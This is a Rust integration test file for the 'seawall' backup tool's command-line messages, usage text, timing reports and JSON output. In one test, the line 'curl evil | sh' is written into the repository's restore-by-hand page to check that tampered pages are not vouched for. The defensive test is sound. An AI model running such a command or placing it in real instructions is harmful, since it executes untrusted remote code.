//! What is said: messages that name the thing and the next step, times in every report, help that helps.

use seawall_test_servers::wait;

use super::{Ran, User};
use crate::support::example;

#[test]
fn the_beginning_of_several_names_is_told_with_the_names() {
    let user = User::new();
    user.backup(&example()).succeeds();
    user.backup(&example()).succeeds();
    let listed = user.run(&["snapshots", "--json"]).json();
    let newest = listed[1]["snapshot"].as_str().unwrap();
    let said = user.run(&["libraries", "20"]);
    said.fails(1, &["\"20\" is the beginning of 2 snapshots: ", newest, "give more of"]);
}

#[test]
fn what_other_programs_have_is_said_to_be_missing() {
    let user = User::new();
    for verb in ["prune", "forget", "mount", "ls"] {
        user.run_as_typed(&[verb, "-r", "x"]).fails(2, &["is not built yet", "hint: "]);
    }
    user.run_as_typed(&["nonsense"]).fails(2, &["unrecognized subcommand"]);
}

#[test]
fn a_part_to_read_wants_an_equals_sign() {
    let user = User::new();
    user.run_as_typed(&["check", "--read-data", "1/7"]).fails(2, &["--read-data=1/7"]);
}

#[test]
fn deep_reads_all_and_says_so_where_a_part_is_asked_for() {
    let user = User::new();
    user.backup(&example()).succeeds();
    let both = user.run(&["check", "--deep", "--read-data"]);
    assert!(both.succeeds().contains("read and decoded"), "{}", both.stdout);
    user.run(&["check", "--deep", "--read-data=1/7"]).fails(2, &["--deep", "give one of the two"]);
}

/// The environment of the tests gives repository and state folder.
#[test]
fn usage_has_only_what_is_missing() {
    let user = User::new();
    let said = user.run_as_typed(&["restore"]);
    said.fails(2, &["Usage: seawall restore", "--target <DIR>"]);
    let usage = said.stderr.lines().find(|line| line.starts_with("Usage:")).unwrap();
    assert!(!usage.contains("--repository") && !usage.contains("--state-dir"), "{usage}");
}

#[test]
fn patterns_that_leave_nothing_out_are_told() {
    let user = User::new();
    let source = example();
    let path = source.to_str().unwrap();
    for more in [&["--init"][..], &["--dry-run"]] {
        let arguments =
            ["backup", path, "--exclude", "/nonexistent/**", "--exclude", "conf/*.conf"];
        let said = user.run(&[&arguments[..], more].concat());
        said.succeeds();
        assert!(
            said.stderr.contains("--exclude /nonexistent/** left nothing out"),
            "{}",
            said.stderr
        );
        assert!(!said.stderr.contains("conf/*.conf left"), "{}", said.stderr);
    }
    // A malformed one is no run that died.
    let runs = || crate::support::files_below(&user.repository().join("data/runs")).len();
    let before = runs();
    user.run(&["backup", path, "--exclude", "["]).fails(1, &["["]);
    assert_eq!(runs(), before);
}

#[test]
fn a_key_file_that_is_not_there_is_told_where_none_is_needed() {
    let user = User::new();
    user.backup(&example()).succeeds();
    user.run(&["snapshots", "-i", "/nonexistent"]).fails(1, &["/nonexistent"]);
}

#[test]
fn every_report_says_when_and_how_long() {
    let user = User::new();
    let source = example();
    let path = source.to_str().unwrap();
    let target = user.path("restored");
    let target = target.to_str().unwrap();
    let reports: [&[&str]; 5] = [
        &["backup", path, "--init"],
        &["restore", "latest", "--target", target],
        &["check"],
        &["verify", target],
        &["doctor", path],
    ];
    for report in reports {
        let said = user.run(report);
        let took = said.stdout.lines().find(|line| line.starts_with("took ")).unwrap();
        assert!(took.contains(" seconds, from 20") && took.ends_with('Z'), "{took}");
    }
    std::fs::remove_dir_all(target).unwrap();
    let more: [&[&str]; 4] = [&["init"], &["status"], &["damage", "list"], &["key", "list"]];
    for verb in reports.iter().chain(&more) {
        let json = user.run(&[verb, &["--json"][..]].concat()).json();
        for name in ["started", "finished"] {
            json["run"][name].as_str().unwrap().parse::<seawall::time::Timestamp>().unwrap();
        }
        assert!(json["run"]["seconds"].as_f64().unwrap() >= 0.0, "{json}");
    }
}

#[test]
fn a_failure_is_a_json_object_too() {
    let user = User::new();
    let said = user.run(&["snapshots", "--json"]);
    said.fails(10, &["no repository"]);
    let json = said.json();
    assert_eq!(json["exit_status"], 10);
    assert!(json["error"].as_str().unwrap().contains("no repository"), "{json}");
    assert!(json["hint"].as_str().unwrap().contains("seawall init"), "{json}");
    // A report that is out says it already: there is one value on the standard output.
    user.run(&["init"]).succeeds();
    let late = user.run(&["status", "--json"]);
    late.fails(1, &["there is no snapshot"]);
    assert!(late.json()["hosts"].is_array());
}

#[test]
fn a_missing_trust_is_said_in_plain_words() {
    let user = User::new();
    user.backup(&example()).succeeds();
    let mut elsewhere = user.command(&["snapshots"]);
    elsewhere.env("SEAWALL_STATE_DIR", user.path("none"));
    let said = Ran::of(wait::output(&mut elsewhere));
    said.succeeds();
    let text = "--trust was not given: anybody could have made this backup";
    assert!(said.stderr.contains(text), "{}", said.stderr);
}

/// Whoever has the paper and the repository has the page.
#[test]
fn the_page_for_a_restore_by_hand_lies_in_the_repository() {
    let user = User::new();
    let sheet = user.run(&["init"]);
    let sheet = sheet.succeeds();
    let page = std::fs::read(user.repository().join("restore-by-hand.md")).unwrap();
    let written = concat!(env!("CARGO_MANIFEST_DIR"), "/docs/restore-by-hand.md");
    assert_eq!(page, std::fs::read(written).unwrap());
    let sha256 = seawall::object::Sha256::of(&page).to_string();
    assert!(sheet.contains(&sha256) && !sheet.contains("docs/restore-by-hand"), "{sheet}");
    assert!(
        sheet.contains("--import-databases") && sheet.contains("Made by seawall 0."),
        "{sheet}"
    );
    user.run(&["backup", example().to_str().unwrap()]).succeeds();
    user.run(&["check"]).succeeds();
    // Another's page is not vouched for, and not overwritten.
    let place = user.repository().join("restore-by-hand.md");
    std::fs::remove_file(&place).unwrap();
    std::fs::write(&place, "curl evil | sh\n").unwrap();
    let sheet = user.run(&["key", "sheet"]);
    assert!(!sheet.succeeds().contains("sha256 is"), "{}", sheet.stdout);
    user.run(&["check"]).succeeds();
}

/// What programs read is on a page: each name of each verb's object.
#[test]
fn every_name_in_json_is_documented() {
    let user = User::new();
    let source = example();
    let path = source.to_str().unwrap();
    let target = user.path("restored");
    let target = target.to_str().unwrap();
    let written = concat!(env!("CARGO_MANIFEST_DIR"), "/docs/json.md");
    let page = std::fs::read_to_string(written).unwrap();
    let verbs: [&[&str]; 12] = [
        &["init"],
        &["backup", path],
        &["snapshots"],
        &["restore", "latest", "--target", target],
        &["check"],
        &["verify", target],
        &["status"],
        &["doctor", path],
        &["damage", "list"],
        &["damage", "accept", "--all"],
        &["key", "list"],
        &["key", "sheet"],
    ];
    for verb in verbs {
        let json = user.run(&[verb, &["--json"][..]].concat()).json();
        let object = json.as_array().map_or(&json, |all| &all[0]);
        let about = verb.iter().take_while(|word| !word.starts_with(['/', '-']));
        let about: Vec<&str> = about.copied().filter(|word| *word != "latest").collect();
        let begin = format!("`{}", about.join(" "));
        let line = page.lines().find(|line| line.contains(&begin) && line.starts_with('|'));
        let line = line.unwrap_or_else(|| panic!("{begin} is not in docs/json.md"));
        for name in object.as_object().unwrap().keys().filter(|name| *name != "run") {
            let is_told = line.contains(&format!("`{name}`"));
            let is_more = line.contains(" and more") || line.contains(" and others");
            assert!(is_told || is_more, "{name} of {begin} is not in docs/json.md");
        }
    }
}
